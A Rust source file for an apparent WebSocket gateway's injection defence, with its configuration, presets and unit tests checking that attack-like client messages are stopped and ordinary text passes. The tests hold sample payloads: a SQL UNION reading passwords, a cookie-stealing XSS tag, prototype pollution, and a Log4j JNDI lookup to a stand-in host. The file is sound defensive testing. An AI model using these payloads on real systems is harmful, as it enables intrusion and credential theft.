//! `injection`: attacks in what clients send.

use std::time::Duration;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use sockwarden_detect::{Policy, Preset};
use sockwarden_model::{Direction, Mode, Rule, rule};

use crate::{
    BadSetting, Defence, Fact, Guard, Hears, Verdict,
    defences::AnswerKind,
    detecting::{Detecting, policy},
};

rule! {
    /// # What it does
    /// Looks into every value and key of every message of a client, encodings inside it included, for what would be more than data to whoever
    /// uses it: statements of SQL, operators of document databases, commands, ways out of a folder, active script, expressions of
    /// templates, LDAP filters, entities of XML, addresses that only the server reaches, names that change prototypes, serialised objects,
    /// look-ups of Log4j, line breaks for headers and logs, characters that hide what a text says.
    ///
    /// A shape is confirmed by reading it as the language that it would be injected into, and weighed by what the value is: a sentence about `SELECT` is
    /// no attack. A message whose worst value reaches the threshold is not forwarded.
    ///
    /// # Why is this bad
    /// Messages on a socket are input like any other, and few firewalls read them. What a client sends ends up in queries, pages, commands and logs;
    /// an application that trusts it is taken over by the first one who tries.
    ///
    /// # How to fix
    /// Keep data and code apart where it is used; the gateway is a second line:
    ///
    /// ```js
    /// db.all("SELECT * FROM messages WHERE room = ?", [room]);   // not `... '${room}'`
    /// element.textContent = message.text;                        // not innerHTML
    /// ```
    ///
    /// ```python
    /// cursor.execute("SELECT * FROM messages WHERE room = %s", (room,))
    /// subprocess.run(["convert", name], check=True)              # no shell
    /// ```
    ///
    /// ```java
    /// connection.prepareStatement("SELECT * FROM messages WHERE room = ?");
    /// ```
    ///
    /// In the gateway, say what is spoken there, and name what was wrongly stopped:
    ///
    /// ```toml
    /// [routes.injection]
    /// preset = "developer-chat"
    /// exclusions = ["sql-union /query", "* /snippet/**"]
    /// ```
    pub static RULE = Defence {
        id: "injection",
        summary: "what would be code to whoever uses it is not forwarded to the application",
        severity: High,
        threats: [T6],
        cwe: [74, 79, 89, 78, 22, 943, 1336, 90, 611, 918, 1321, 502, 917],
        references: ["OWASP Top 10 2021 A03", "CWE-74"],
        lifecycle: Preview,
        counterparts: [],
        profile: Passive,
        may_change: "messages that look like attacks close the connection",
    }
}

/// What a preset is called.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum PresetKind {
    /// For interfaces between programs: what looks like an attack is one, also in a sentence.
    Strict,
    /// For most applications: people write texts, and some of them about programs.
    #[default]
    Default,
    /// For people who talk: a sentence needs more evidence.
    Chat,
    /// For people who talk about programs: code that is quoted as code is not held against them.
    DeveloperChat,
}

impl From<PresetKind> for Preset {
    fn from(kind: PresetKind) -> Self {
        match kind {
            PresetKind::Strict => Self::Strict,
            PresetKind::Default => Self::Default,
            PresetKind::Chat => Self::Chat,
            PresetKind::DeveloperChat => Self::DeveloperChat,
        }
    }
}

/// `injection`.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields, default)]
pub struct InjectionConfig {
    /// off, observe or block.
    pub mode: Mode,
    /// What is spoken on the route, from which everything else is taken.
    pub preset: PresetKind,
    /// The score that is stopped, where it is not the preset's: a single observation scores 1 to 10.
    #[schemars(range(min = 1))]
    pub threshold: Option<u32>,
    /// How doubtful what is looked for may be: 1 to 4; at 4 much is found and much of it is harmless.
    #[schemars(range(min = 1, max = 4))]
    pub paranoia: u8,
    /// What is not held against a value, such as `sql-union /search/*`: a rule (or `*`) and, if need be, a place.
    pub exclusions: Vec<String>,
    /// Categories that are not looked for, such as `ssrf`.
    pub off: Vec<String>,
    /// What becomes of the connection: `close` closes with 1008, `drop` leaves the message out, `error` does so and tells the sender in the words of the sub-protocol.
    pub answer: AnswerKind,
}

impl Default for InjectionConfig {
    fn default() -> Self {
        Self {
            // It is wrong too often about binary data and long texts to stop anything unasked.
            mode: Mode::Observe,
            preset: PresetKind::Default,
            threshold: None,
            paranoia: 1,
            exclusions: Vec::new(),
            off: Vec::new(),
            answer: AnswerKind::Close,
        }
    }
}

impl InjectionConfig {
    /// Gives the policy that it stands for.
    ///
    /// # Errors
    /// Settings that mean nothing.
    pub fn policy(&self) -> Result<Policy, Vec<BadSetting>> {
        let of =
            Policy { threshold: self.threshold, paranoia: self.paranoia, ..Policy::of(self.preset.into()) };
        policy("injection", of, (&self.exclusions, &self.off))
    }
}

/// Stops attacks on the application.
#[derive(Clone, Debug)]
pub struct Injection(Detecting);

impl Injection {
    /// Takes what is configured.
    ///
    /// # Errors
    /// Settings that mean nothing.
    pub fn new(config: &InjectionConfig) -> Result<Self, Vec<BadSetting>> {
        Ok(Self(Detecting::new(&config.policy()?, Direction::Client, config.answer)))
    }
}

impl Defence for Injection {
    fn rule(&self) -> &'static Rule {
        &RULE
    }

    fn hears(&self) -> Hears {
        Hears::VALUES | Hears::OPERATIONS | Hears::MESSAGES
    }

    fn tells(&self) -> bool {
        self.0.answer.tells()
    }

    fn guard(&self) -> Box<dyn Guard> {
        Box::new(self.clone())
    }
}

impl Guard for Injection {
    fn observe(&mut self, fact: &Fact<'_>, _now: Duration) -> Verdict {
        self.0.observe(fact, "the message looks like an attack")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::defences::samples::{judge_texts, reasons};

    fn said(config: &InjectionConfig, from: Direction, text: &str) -> Vec<String> {
        reasons(&judge_texts(&Injection::new(config).expect("good settings"), None, &[(from, text)]))
    }

    #[test]
    fn attacks_of_clients_are_stopped_and_their_words_are_not_repeated() {
        let config = InjectionConfig::default();
        for text in [
            r#"{"search":"x' UNION SELECT password FROM users-- "}"#,
            r#"{"text":"<img src=x onerror=alert(document.cookie)>"}"#,
            r#"{"__proto__":{"admin":true}}"#,
            r#"{"name":"${jndi:ldap://evil.example/a}"}"#,
        ] {
            let [reason] = <[String; 1]>::try_from(said(&config, Direction::Client, text)).expect(text);
            assert!(reason.starts_with("score "), "{reason}");
            assert!(!reason.contains("password") && !reason.contains("evil"), "{reason}");
            assert_eq!(said(&config, Direction::Server, text), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn what_people_say_is_forwarded() {
        for text in [
            r#"{"text":"Did you select the file from the users folder? O'Brien's one"}"#,
            r#"{"text":"I like <3 and a < b && b > c","channel":"general","id":42}"#,
            "hello",
            r#"{"url":"https://example.com/a?b=c&d=e","email":"a@b.example"}"#,
        ] {
            assert_eq!(
                said(&InjectionConfig::default(), Direction::Client, text),
                Vec::<String>::new(),
                "{text}"
            );
        }
    }

    #[test]
    fn what_a_document_of_graphql_may_ask_for_is_not_judged_here() {
        let said = |protocol, attack: &str| {
            let fields =
                (0..60).map(|number| format!("a{number}: login(x: 1) {{ token }} ")).collect::<String>();
            let query = format!("query {{ __schema {{ types {{ name fields {{ name }} }} }} {fields} }}");
            let payload = serde_json::json!({"query": query, "variables": {"text": attack}});
            let message = serde_json::json!({"id": "1", "type": "subscribe", "payload": payload}).to_string();
            let injection = Injection::new(&InjectionConfig::default()).expect("good settings");
            reasons(&judge_texts(&injection, protocol, &[(Direction::Client, &message)])).len()
        };
        let graphql = Some(sockwarden_inspect::Protocol::GraphQlTransportWs);
        assert_eq!(said(graphql, "hello"), 0);
        assert_eq!(said(graphql, "<img src=x onerror=alert(document.cookie)>"), 1);
    }

    #[test]
    fn exclusions_hold_at_their_place() {
        let attack = |field: &str| format!(r#"{{"{field}":"x' UNION SELECT password FROM users-- "}}"#);
        let config = InjectionConfig { exclusions: vec!["* /query".to_owned()], ..Default::default() };
        assert_eq!(said(&config, Direction::Client, &attack("query")), Vec::<String>::new());
        assert_eq!(said(&config, Direction::Client, &attack("text")).len(), 1);
        let config = InjectionConfig { off: vec!["sql".to_owned()], ..Default::default() };
        assert_eq!(said(&config, Direction::Client, &attack("text")), Vec::<String>::new());
    }

    #[test]
    fn settings_that_mean_nothing_are_named() {
        let config = InjectionConfig {
            threshold: Some(0),
            paranoia: 5,
            exclusions: vec!["*".to_owned()],
            off: vec!["sequel".to_owned()],
            ..Default::default()
        };
        let wrong = Injection::new(&config).expect_err("bad settings");
        let keys: Vec<&str> = wrong.iter().map(|setting| setting.key.as_str()).collect();
        assert_eq!(
            keys,
            ["injection.exclusions[0]", "injection.off[0]", "injection.paranoia", "injection.threshold"]
        );
    }
}
